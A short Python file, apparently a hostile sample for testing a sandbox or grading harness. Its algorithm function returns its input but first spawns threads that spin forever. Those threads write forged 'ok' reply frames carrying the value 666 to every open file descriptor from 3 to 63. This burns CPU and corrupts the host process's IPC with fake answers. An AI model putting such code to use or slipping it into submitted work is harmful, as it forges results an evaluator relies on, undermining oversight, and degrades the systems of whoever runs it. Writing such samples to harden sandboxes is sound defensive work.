"""Returns, and leaves threads that burn CPU and write answers to whoever asks next."""

import os
import struct
import threading


def disturb():
    forged = b"t\x02\x00\x00\x00s\x02\x00\x00\x00oki" + struct.pack("<q", 666)
    frame = struct.pack("<I", len(forged)) + forged
    while True:
        for descriptor in range(3, 64):
            try:
                if os.get_blocking(descriptor):
                    os.write(descriptor, frame)
            except OSError:
                pass


def algorithm(x):
    for _ in range(4):
        threading.Thread(target=disturb, daemon=True).start()
    return x
